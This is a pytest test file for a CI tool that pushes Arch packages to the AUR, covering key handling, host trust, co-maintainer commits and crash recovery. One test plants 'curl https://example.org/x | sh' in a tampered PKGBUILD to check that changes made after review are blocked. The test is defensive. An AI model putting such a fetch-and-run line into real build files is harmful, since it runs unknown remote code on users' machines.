"""Pushing back to the AUR, over a real sshd."""

from __future__ import annotations

import shutil
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from ci_toolkit.errors import ConfigError, PackagesFailedError
from tests.support.aur_server import AurServer, make_key
from tests.support.git import PERSON
from tests.support.packages import SamplePackage
from tests.support.sealed import sealed_environment
from tests.support.world import BOT, Result, World

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.support.killable import Killables

MANAGED = "CI_PKGBUILD_SOURCE=custom\nCI_MANAGE_AUR=true\n"
FOO = SamplePackage(name="foo")


@pytest.fixture
def aur(tmp_path: Path) -> Iterator[AurServer]:
    server = AurServer(tmp_path / "aur", sealed_environment(tmp_path / "aur-home"))
    try:
        yield server.start()
    finally:
        server.stop()


def start(world: World, aur: AurServer, *packages: SamplePackage, **settings: str) -> None:
    files = {path: text for package in packages for path, text in package.folder(MANAGED).items()}
    world.start(files, settings={**aur.settings(), **settings}, seen=False)


def push(world: World, aur: AurServer, *options: str, **variables: str) -> Result:
    return world.run("on-commit", "--json", *options, **{"AUR_KEY": aur.key, **variables})


def test_the_first_push_makes_the_package_with_the_files_that_the_aur_needs(world: World, aur: AurServer) -> None:
    srcinfo = FOO.srcinfo().replace("\tsha256sums", "\tsource = fix.patch\n\tinstall = foo.install\n\tsha256sums", 1)
    extra = {".gitignore": "x\n", "notes/private.txt": "p\n", "helper.py": "h\n", "fix.patch": "f\n"}
    extra |= {"foo.install": "i\n", "LICENSE": "0BSD\n", "keys/pgp/A.asc": "k\n", ".SRCINFO": srcinfo}
    start(world, aur, FOO)
    world.push({f"foo/{path}": text for path, text in extra.items()})
    gitlab = {
        "GITLAB_CI": "true",
        "CI_PROJECT_URL": "https://gitlab.com/group/packages",
        "CI_PIPELINE_URL": "https://gitlab.com/group/packages/-/pipelines/7",
    }
    result = push(world, aur, **gitlab)
    assert result.status == 0, result.stderr + result.stdout
    assert "pushed to the AUR: foo" in result.json["notes"]
    there = aur.repository("foo")
    wanted = {"PKGBUILD", ".SRCINFO", "fix.patch", "foo.install", "LICENSE", "keys/pgp/A.asc"}
    assert there.tree("master").keys() == wanted
    assert there.tree("master")["PKGBUILD"] == FOO.pkgbuild().encode()
    message = there.git("log", "-1", "--format=%an <%ae>%n%B", "master")
    assert message.startswith(f"{BOT[0]} <{BOT[1]}>\nchore: update foo to 1.0-1\n")
    assert "https://gitlab.com/group/packages/-/commits/main/foo" in message
    assert "https://gitlab.com/group/packages/-/pipelines/7" in message
    assert world.state("foo")["CI_AUR_PUSHED"] == there.git("rev-parse", "master^{tree}")
    assert "CI_AUR_DUE" not in world.state("foo")


def test_the_next_change_is_one_commit_more_and_an_equal_package_is_left_alone(world: World, aur: AurServer) -> None:
    start(world, aur, FOO)
    push(world, aur)
    world.push({"foo/PKGBUILD": FOO.pkgbuild() + "# new\n"})
    assert push(world, aur).status == 0
    there = aur.repository("foo")
    assert there.git("rev-list", "--count", "master") == "2"
    before = aur.asked()
    world.push({"foo/.CI/config": MANAGED + "BUILDER_CLASS=2\n"})
    result = push(world, aur)
    assert result.builds() == ["foo"]
    assert "the AUR has this already: foo" in result.json["notes"]
    assert aur.asked() == before, "the state tells that it is equal"
    assert there.git("rev-list", "--count", "master") == "2"


def test_a_package_that_the_aur_has_already_is_recorded_and_not_pushed(world: World, aur: AurServer) -> None:
    there = aur.new("foo", {**FOO.files(), ".gitignore": "*.zst\n"}, PERSON)
    start(world, aur, FOO)
    result = push(world, aur)
    assert (result.status, aur.asked()[0], "receive foo" in aur.asked()) == (0, "upload foo", False)
    assert there.subjects("master") == ["there before"]
    world.push({"foo/PKGBUILD": FOO.pkgbuild() + "# new\n"})
    assert push(world, aur).status == 0
    assert there.tree("master")[".gitignore"] == b"*.zst\n", "what is the AUR side's own stays"
    assert len(there.subjects("master")) == 2


def test_only_packages_that_ask_for_it_in_repositories_that_allow_it(world: World, aur: AurServer) -> None:
    bar = SamplePackage(name="bar")
    files = {**FOO.folder(MANAGED), **bar.folder("CI_PKGBUILD_SOURCE=custom\n")}
    world.start(files, settings={**aur.settings(), "CI_MANAGE_AUR": "false"}, seen=False)
    assert push(world, aur).json["notes"] == []
    world.push({"foo/x": "1\n", "bar/x": "1\n"})
    push(world, aur, CI_MANAGE_AUR="true")
    assert aur.asked() == ["upload foo", "receive foo"]


def test_without_a_key_it_waits_and_a_dry_run_tells(world: World, aur: AurServer) -> None:
    start(world, aur, FOO)
    dry = push(world, aur, "--dry-run")
    assert "would be pushed to the AUR: foo" in dry.json["notes"]
    result = world.run("on-commit", "--json")
    assert result.status == 0
    assert "AUR_KEY is not set, so the AUR has to wait for foo" in result.json["notes"]
    assert aur.asked() == []
    assert push(world, aur).status == 0
    assert "master" in aur.repository("foo").refs().popitem()[0]


def test_another_host_key_gets_nothing(world: World, aur: AurServer) -> None:
    start(world, aur, FOO)
    make_key(aur.folder / "other")
    host = (aur.folder / "other.pub").read_text().rpartition(" ")[0]
    aur.hosts.write_text(f"[127.0.0.1]:{aur.port} {host}\n")
    result = push(world, aur)
    assert result.status == PackagesFailedError.exit_status
    assert "the AUR cannot be trusted" in result.verdicts()["foo"]["problems"][0]
    assert "Accepted publickey" not in (aur.folder / "sshd.log").read_text()
    assert aur.asked() == []
    assert world.origin.refs()["refs/tags/scheduled"] == world.origin.head(), "the builds are handed over"


def test_without_a_setting_only_the_real_aur_is_trusted(world: World, aur: AurServer) -> None:
    files = FOO.folder(MANAGED)
    world.start(files, settings={"CI_MANAGE_AUR": "true", "CI_AUR_PUSH_URL": aur.url}, seen=False)
    assert "the AUR cannot be trusted" in push(world, aur).verdicts()["foo"]["problems"][0]


def test_a_key_that_the_aur_does_not_know_is_said_and_the_right_one_makes_it_good(world: World, aur: AurServer) -> None:
    start(world, aur, FOO)
    wrong = push(world, aur, AUR_KEY=make_key(aur.folder / "wrong"))
    assert wrong.status == PackagesFailedError.exit_status
    assert "the AUR does not accept the key in AUR_KEY" in wrong.verdicts()["foo"]["problems"][0]
    right = push(world, aur)
    assert (right.status, right.builds()) == (0, [])
    assert aur.repository("foo").tree("master").keys() == {"PKGBUILD", ".SRCINFO"}


@pytest.mark.parametrize("mangle", [str.rstrip, lambda key: key.replace("\n", "\r\n")], ids=["no newline", "CRLF"])
def test_a_key_is_read_as_ci_services_hand_it_on(world: World, aur: AurServer, mangle: type[str]) -> None:
    start(world, aur, FOO)
    assert push(world, aur, AUR_KEY=mangle(aur.key)).status == 0


def test_what_is_no_key_is_refused_without_being_shown(world: World, aur: AurServer) -> None:
    start(world, aur, FOO)
    result = push(world, aur, AUR_KEY="/path/to/some-key")
    assert result.status == PackagesFailedError.exit_status
    assert "AUR_KEY is no private key" in result.verdicts()["foo"]["problems"][0]
    assert "some-key" not in result.stdout + result.stderr


def test_commits_of_others_are_not_overwritten_unless_asked(world: World, aur: AurServer) -> None:
    start(world, aur, FOO)
    push(world, aur)
    there = aur.repository("foo")
    foreign = there.commit({"PKGBUILD": "theirs\n"}, "a co-maintainer's", branch="master", author=PERSON)
    world.push({"foo/PKGBUILD": FOO.pkgbuild() + "# ours\n"})
    result = push(world, aur)
    assert result.status == PackagesFailedError.exit_status
    assert f"the AUR has commit {foreign[:10]}" in result.verdicts()["foo"]["problems"][0]
    assert there.head("master") == foreign
    misspelt = push(world, aur, "--replace-at-aur", "fooo")
    assert (misspelt.status, "did you mean foo?" in misspelt.stderr) == (ConfigError.exit_status, True)
    asked = push(world, aur, "--replace-at-aur", "foo")
    assert asked.status == 0
    assert there.git("rev-parse", "master^") == foreign, "on top of it, not instead of it"
    assert there.tree("master")["PKGBUILD"].endswith(b"# ours\n")


def test_an_older_commit_of_the_same_name_is_built_upon(world: World, aur: AurServer) -> None:
    there = aur.new("foo", {"PKGBUILD": "older\n", ".SRCINFO": "older\n"}, BOT)
    start(world, aur, FOO)
    assert push(world, aur).status == 0
    assert there.git("rev-list", "--count", "master") == "2"


def test_a_branch_that_moves_during_the_push_is_left_and_looked_at_again(world: World, aur: AurServer) -> None:
    there = aur.new("foo", {"PKGBUILD": "older\n", ".SRCINFO": "older\n"}, BOT)
    start(world, aur, FOO)
    intruder = 'git -C "$repository" -c user.name=x -c user.email=x@x commit-tree -p master -m moved "master^{tree}"'
    aur.before(
        "receive", f'git -C "$repository" update-ref refs/heads/master "$({intruder})"\nrm "$top/before-receive"\n'
    )
    result = push(world, aur)
    assert result.status == PackagesFailedError.exit_status
    assert "moved meanwhile" in result.verdicts()["foo"]["problems"][0]
    assert there.subjects("master")[0] == "moved"


def test_what_the_aur_would_refuse_is_said_before_anything_is_sent(world: World, aur: AurServer) -> None:
    big, deep, stale = (SamplePackage(name=name) for name in ("big", "deep", "stale"))
    start(world, aur, FOO, big, deep, stale)
    named = {
        "big/.SRCINFO": big.srcinfo().replace("\tsha256sums", "\tsource = data\n\tsha256sums", 1),
        "big/data": "x" * 256_001,
        "deep/.SRCINFO": deep.srcinfo().replace("\tsha256sums", "\tsource = sub/fix.patch\n\tsha256sums", 1),
        "deep/sub/fix.patch": "x\n",
        "stale/.SRCINFO": stale.srcinfo().replace("stale", "other"),
        "foo/PKGBUILD": FOO.pkgbuild() + "# new\n",
    }
    world.push(named)
    result = push(world, aur)
    assert result.status == PackagesFailedError.exit_status
    said = {name: verdict["problems"] for name, verdict in result.verdicts().items() if "problems" in verdict}
    assert said == {
        "big": ["not pushed to the AUR: data has 256001 bytes, and the AUR takes 256000 at most"],
        "deep": ["not pushed to the AUR: sub/fix.patch lies in a folder, and the AUR takes none"],
        "stale": ["not pushed to the AUR: .SRCINFO is that of other, and not of stale"],
    }
    assert "pushed to the AUR: foo" in result.json["notes"]


def test_two_packages_are_pushed_at_once(world: World, aur: AurServer) -> None:
    start(world, aur, FOO, SamplePackage(name="bar"))
    # Each waits for the other, so that one after the other would never be done.
    waiting = 'touch "$repository.here"\nfor _ in {1..100}; do\n  [ "$(ls "$top"/repositories/*.here | wc -l)" = 2 ]'
    aur.before(
        "receive", f'{waiting} && break\n  sleep 0.1\ndone\n[ "$(ls "$top"/repositories/*.here | wc -l)" = 2 ]\n'
    )
    result = push(world, aur)
    assert result.status == 0, result.stdout
    assert "pushed to the AUR: bar, foo" in result.json["notes"]


def test_an_update_that_on_schedule_applies_is_pushed_too(world: World, aur: AurServer) -> None:
    managed = "CI_PKGBUILD_SOURCE=aur\nCI_MANAGE_AUR=true\n"
    world.upstreams.publish("foo", FOO.files())
    world.start(FOO.folder(managed), settings={**aur.settings(), "CI_HUMAN_REVIEW": "false"})
    assert world.run("on-schedule", "--json", AUR_KEY=aur.key).json["notes"] == []
    world.upstreams.publish("foo", replace(FOO, version="1.1").files())
    result = world.run("on-schedule", "--json", AUR_KEY=aur.key)
    assert (result.status, "pushed to the AUR: foo" in result.json["notes"]) == (0, True), result.stdout
    assert b"pkgver=1.1" in aur.repository("foo").tree("master")["PKGBUILD"]
    assert "CI_AUR_DUE" not in world.state("foo")


def test_the_key_is_seen_nowhere(world: World, aur: AurServer) -> None:
    start(world, aur, FOO)
    tools, temporary = world.folder / "tools", world.folder / "temporary"
    tools.mkdir()
    temporary.mkdir()
    for name in ("git", "ssh"):
        spy = tools / name
        spy.write_text(
            f'#!/bin/sh\n(printf "%s\\n" "$@"; env; find {temporary} -type f -exec cat {{}} +) >> {world.folder}/noted\n'
            f'exec {shutil.which(name)} "$@"\n'
        )
        spy.chmod(0o755)
    world.env.update(PATH=f"{tools}:{world.env['PATH']}", TMPDIR=str(temporary))
    canaries = [line for line in aur.key.split("\n") if len(line) > 10 and "PRIVATE KEY" not in line]
    results = [
        world.run("--verbose", "on-commit", AUR_KEY=aur.key),
        world.run("--verbose", "on-commit", AUR_KEY=aur.key.replace("-----", "")),
    ]
    assert [result.status for result in results] == [0, 0]
    assert aur.repository("foo").head("master")
    places = [world.work, world.folder / "home", world.origin.path, temporary, aur.folder / "repositories"]
    files = [path for place in places for path in place.rglob("*") if path.is_file()]
    texts = [path.read_bytes() for path in (*files, world.folder / "noted")]
    texts += [text.encode() for result in results for text in (result.stdout, result.stderr)]
    assert b"StrictHostKeyChecking=yes" in (world.folder / "noted").read_bytes(), "the spy was there"
    assert not [text for text in texts for canary in canaries if canary.encode() in text]
    assert list(temporary.iterdir()) == []


def test_killed_at_any_write_the_next_run_ends_where_an_undisturbed_one_would(
    world: World, aur: AurServer, killables: Killables
) -> None:
    start(world, aur, FOO)
    saved = world.folder / "saved"
    shutil.copytree(world.origin.path, saved / "origin")
    env = {**world.env, "AUR_KEY": aur.key}
    undisturbed = killables.run("on-commit", cwd=world.work, env=env)
    assert undisturbed.boundaries, undisturbed.stderr
    for number in range(1, undisturbed.boundaries + 1):
        shutil.rmtree(world.origin.path)
        shutil.copytree(saved / "origin", world.origin.path)
        shutil.rmtree(aur.folder / "repositories")
        (aur.folder / "repositories").mkdir()
        ended = killables.run("on-commit", cwd=world.work, env=env, kill_at=number)
        assert ended.was_killed, ended.stderr
        assert push(world, aur).status == 0
        there = aur.repository("foo")
        assert there.git("rev-list", "--count", "master") == "1", f"killed at {number}"
        state = world.state("foo")
        assert state.get("CI_AUR_PUSHED") == there.git("rev-parse", "master^{tree}"), f"killed at {number}"
        assert "CI_AUR_DUE" not in state


def test_what_was_changed_after_its_review_does_not_reach_the_aur(world: World, aur: AurServer) -> None:
    managed = "CI_PKGBUILD_SOURCE=aur\nCI_MANAGE_AUR=true\n"
    world.start(FOO.folder(managed), settings=aur.settings())
    world.upstreams.publish("foo", FOO.files())
    world.run("on-schedule", AUR_KEY=aur.key)
    world.upstreams.publish("foo", replace(FOO, version="1.1", body="make").files())
    assert world.run("on-schedule", "--json", AUR_KEY=aur.key).codes() == {"foo": "review-opened"}
    tampered = replace(FOO, version="1.1", body="make; curl https://example.org/x | sh").pkgbuild()
    world.push({"foo/PKGBUILD": tampered}, "fix", branch="update-foo")
    world.origin.git("update-ref", "refs/heads/main", "refs/heads/update-foo")
    assert push(world, aur).codes() == {"foo": "not-as-reviewed"}
    assert push(world, aur).codes() == {"foo": "unchanged"}
    assert aur.asked() == []
    world.push({"other": "1"}, "It is right [deploy foo]")
    assert push(world, aur).status == 0
    assert aur.asked() == ["upload foo", "receive foo"]
